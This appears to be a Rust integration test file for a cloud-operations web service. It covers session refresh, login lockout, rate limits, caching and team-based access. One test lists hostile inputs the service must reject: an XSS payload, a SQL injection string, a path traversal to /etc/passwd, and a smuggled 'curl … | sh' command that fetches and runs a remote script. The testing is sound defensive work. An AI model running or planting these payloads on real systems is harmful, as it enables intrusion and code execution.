//! A team that runs services in a cloud: people sign in, stay signed in and are locked out where they guess; four
//! kinds of limit; attacks refused at the door; reads from memory that are never stale and never somebody else's.

use super::site_of;
use crate::support::{Actor, Answer, PASSWORD, Site};
use reqwest::Method;
use serde_json::{Value, json};

fn operations(more: &[(&str, &str)]) -> Site {
    let mut environment = vec![
        ("PORTCULLIS_SERVER__TRUSTED_PROXIES", "127.0.0.1/32"),
        ("PORTCULLIS_LIMITS__LOGIN_PER_MINUTE", "1000"),
        ("PORTCULLIS_LIMITS__PUBLIC_PER_MINUTE", "1000"),
    ];
    environment.extend(more);
    site_of("cloud_operations.toml", "make the entity type incidents", &environment)
}

/// An operator of a team. What a user carries is what row rules look at.
fn operator(site: &Site, admin: &Actor, name: &str, team: &str) -> Actor {
    let user = site.user(admin, name, &["operator"]);
    admin.patch(&format!("/users/{}", user.id), &json!({"data": {"team": team}})).expect(200);
    user
}

fn log_in(site: &Site, address: &str, password: &str) -> Answer {
    let nobody = site.nobody();
    let body = json!({"email": "olga@example.org", "password": password});
    nobody.send(nobody.request(Method::POST, "/auth/login").header("x-forwarded-for", address).json(&body))
}

#[test]
fn people_stay_signed_in_leave_and_are_locked_out_only_where_somebody_guesses() {
    let site = operations(&[]);
    let admin = site.admin();
    let olga = operator(&site, &admin, "olga", "payments");

    let renew = |token: &Option<String>| site.nobody().post("/auth/refresh", &json!({"refresh_token": token}));
    let renewed = site.bearer(&renew(&olga.refresh_token).expect(200).json());
    renewed.get("/instances").expect(200);
    let again = site.bearer(&renew(&renewed.refresh_token).expect(200).json());
    site.clock.advance(11_000);
    renew(&olga.refresh_token).problem(401, "invalid_credentials");
    again.get("/instances").problem(401, "unauthenticated");

    for attempt in 0..10 {
        site.clock.advance(300_000);
        assert!(matches!(log_in(&site, "203.0.113.9", "guess").status, 401 | 429), "attempt {attempt}");
    }
    log_in(&site, "203.0.113.9", PASSWORD).problem(429, "login_delayed");
    log_in(&site, "198.51.100.7", PASSWORD).expect(200);
    site.clock.advance(16 * 60_000);
    log_in(&site, "203.0.113.9", PASSWORD).expect(200);
}

/// How many requests pass before the first 429, and the policy that refused.
fn allowance(ask: impl Fn(usize) -> Answer) -> (usize, String) {
    for number in 0..2_000 {
        let answer = ask(number);
        if answer.status == 429 {
            assert!(answer.header("retry-after").parse::<u64>().unwrap() >= 1);
            return (number, answer.header("ratelimit-policy").to_owned());
        }
    }
    panic!("no limit");
}

#[test]
fn addresses_people_roles_and_routes_have_limits() {
    let site = operations(&[("PORTCULLIS_LIMITS__PUBLIC_PER_MINUTE", "30")]);
    let admin = site.admin();
    admin.patch("/settings", &json!({"limits": {"routes": {"POST /entities/{type}": 12}}})).expect(200);
    let olga = operator(&site, &admin, "olga", "payments");
    let otto = operator(&site, &admin, "otto", "payments");
    let lead = site.user(&admin, "lead", &["incident_lead"]);
    site.clock.advance(60_000);

    let nobody = site.nobody();
    let from =
        |address: &str| nobody.send(nobody.request(Method::GET, "/instances").header("x-forwarded-for", address));
    let (by_address, _) = allowance(|_| from("203.0.113.9"));
    assert!((30..=35).contains(&by_address), "{by_address}");
    from("203.0.113.10").expect(401);

    let report = json!({"name": "Slow answers", "data": {"summary": "Slow answers", "severity": 3}});
    let (by_route, policy) = allowance(|number| match number % 2 {
        0 => olga.post("/entities/incidents", &report),
        _ => olga.post("/incidents", &report),
    });
    assert!((12..=14).contains(&by_route), "{by_route}");
    assert!(policy.contains("q=12"), "{policy}");
    otto.post("/incidents", &report).expect(201);

    let (by_role, _) = allowance(|_| olga.get("/instances?limit=1"));
    assert!((270..=330).contains(&by_role), "{by_role}");
    otto.get("/instances?limit=1").expect(200);
    let (by_other_role, _) = allowance(|_| lead.get("/instances?limit=1"));
    assert!((570..=690).contains(&by_other_role), "{by_other_role}");
}

#[test]
fn attacks_in_reports_are_refused_and_plain_words_are_not() {
    let site = operations(&[]);
    let admin = site.admin();
    let olga = operator(&site, &admin, "olga", "payments");
    let report = |summary: &str| json!({"name": "Report", "data": {"summary": summary, "severity": 2}});
    let attacks = [
        "<img src=x onerror=alert(document.domain)>",
        "1' UNION SELECT password FROM users--",
        "; curl http://203.0.113.9/x.sh | sh",
        "../../../../etc/passwd",
    ];
    for attack in attacks {
        olga.post("/incidents", &report(attack)).problem(422, "inspection_blocked");
    }
    for plain in
        ["The union of both selections dropped to 3 %", "Disk at 98 % on db-2, see /var/log", "a < b and c > d"]
    {
        olga.post("/incidents", &report(plain)).expect(201);
    }
    let events = admin.get("/audit?action=request.inspected").expect(200).json();
    assert!(!events["items"].as_array().unwrap().is_empty());
}

fn hit_rate(admin: &Actor, before: &Value) -> f64 {
    let now = caches(admin);
    let since = |member: &str| (now[member].as_u64().unwrap() - before[member].as_u64().unwrap()) as f64;
    since("hits") / (since("hits") + since("misses"))
}

fn caches(admin: &Actor) -> Value {
    let overview = admin.get("/overview").expect(200).json();
    overview["caches"].as_array().unwrap().iter().find(|cache| cache["name"] == "entities").unwrap().clone()
}

#[test]
fn reads_come_from_memory_and_are_never_stale_or_somebody_elses() {
    let site = operations(&[("PORTCULLIS_LIMITS__ENABLED", "false")]);
    let admin = site.admin();
    let payments = operator(&site, &admin, "olga", "payments");
    let search = operator(&site, &admin, "otto", "search");
    let lead = site.user(&admin, "lead", &["incident_lead"]);

    let instances: Vec<String> = (0..10)
        .map(|number| {
            let data = json!({"region": "eu-1", "state": "running", "console_user": format!("serial-{number}")});
            admin.post("/instances", &json!({"name": format!("web-{number}"), "data": data})).expect(201).id()
        })
        .collect();
    let before = caches(&admin);
    let (mut asked, mut failed) = (0, 0);
    for round in 0..30 {
        for (number, id) in instances.iter().enumerate() {
            let path = format!("/instances/{id}");
            for (actor, sees) in [(&payments, false), (&lead, true)] {
                let answer = actor.get(&path);
                asked += 1;
                failed += usize::from(answer.status >= 500);
                assert_eq!(answer.text.contains(&format!("serial-{number}")), sees, "each sees their own view");
            }
        }
        let changed = &instances[round % instances.len()];
        let state = if round % 2 == 0 { "draining" } else { "running" };
        payments.patch(&format!("/instances/{changed}"), &json!({"data": {"state": state}})).expect(200);
        for actor in [&payments, &lead] {
            assert_eq!(actor.get(&format!("/instances/{changed}")).expect(200).json()["data"]["state"], state);
        }
    }
    let rate = hit_rate(&admin, &before);
    assert!(rate > 0.8, "{rate}");
    assert!(failed * 100 < asked, "{failed} of {asked} failed");

    let rollout = json!({"name": "ledger 2.4", "data": {"team": "payments", "service": "ledger", "version": "2.4"}});
    let path = format!("/deployments/{}", payments.post("/deployments", &rollout).expect(201).id());
    search.post("/deployments", &rollout).problem(403, "forbidden");
    for _ in 0..3 {
        payments.get(&path).expect(200);
        search.get(&path).problem(404, "not_found");
    }
    admin.patch(&format!("/users/{}", search.id), &json!({"data": {"team": "payments"}})).expect(200);
    search.get(&path).expect(200);
}
